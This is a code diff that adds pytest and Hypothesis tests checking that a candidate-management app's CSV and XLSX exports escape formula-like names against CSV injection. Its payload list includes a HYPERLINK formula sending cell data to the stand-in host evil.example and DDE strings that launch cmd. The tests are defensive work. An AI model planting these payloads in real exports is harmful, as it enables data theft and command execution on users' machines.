@@ -6,6 +6,8 @@ import re
 from pathlib import Path
 
 import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 
 from certif.candidates.models import Candidate
 from certif.domain.referential.schema import Referential
@@ -86,3 +88,73 @@ def test_filled_in_templates_import_as_they_are(
     assert import_candidates(tmp_path / f"candidats.{suffix}").created == 2
     report = import_scores(tmp_path / f"notes.{suffix}")
     assert report.created > 0
+
+
+# -- formulas never leave Certif live (OWASP « CSV injection ») ---------------------------------
+
+PAYLOADS = (
+    '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "'=déjà une apostrophe",
+)
+
+
+def _set_birth_name(name: str) -> None:
+    # Written around the services on purpose: what a hostile name stored by any door becomes.
+    Candidate.objects.filter(numero="C001").update(birth_name=name)
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_a_csv_export_writes_a_formula_like_name_as_text(
+    candidates: list[Candidate], tmp_path: Path, payload: str
+) -> None:
+    _set_birth_name(payload)
+    path = tmp_path / "candidats.csv"
+    export("candidates", path)
+    import csv
+
+    rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines(), delimiter=";"))
+    cell = rows[1][1]
+    assert cell == "'" + payload
+    assert import_candidates(path).unchanged == 2
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_an_xlsx_export_writes_a_formula_like_name_as_a_text_cell(
+    candidates: list[Candidate], tmp_path: Path, payload: str
+) -> None:
+    from openpyxl import load_workbook
+
+    _set_birth_name(payload)
+    path = tmp_path / "candidats.xlsx"
+    export("candidates", path)
+    cell = load_workbook(path).worksheets[0]["B2"]
+    assert cell.data_type == "s"
+    assert cell.value == "'" + payload
+    assert import_candidates(path).unchanged == 2
+
+
+names = st.tuples(
+    st.sampled_from(["", "=", "+", "-", "@", "'", "''=", "\uff1d", "-1+", "'-"]),
+    st.text(alphabet=st.characters(categories=["L", "N", "P", "S"]), min_size=1, max_size=20),
+).map("".join)
+
+
+@settings(
+    max_examples=40,
+    deadline=None,
+    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
+)
+@given(name=names, suffix=st.sampled_from(["csv", "xlsx"]))
+def test_any_name_exported_imports_back_to_the_same_value(
+    candidates: list[Candidate], tmp_path: Path, name: str, suffix: str
+) -> None:
+    _set_birth_name(name)
+    path = tmp_path / f"candidats.{suffix}"
+    export("candidates", path)
+    assert read_table(path)["nom_naissance"].to_list()[0] == name
+    report = import_candidates(path)
+    assert (report.created, report.updated, report.unchanged) == (0, 0, 2)
+    assert Candidate.objects.get(numero="C001").birth_name == name
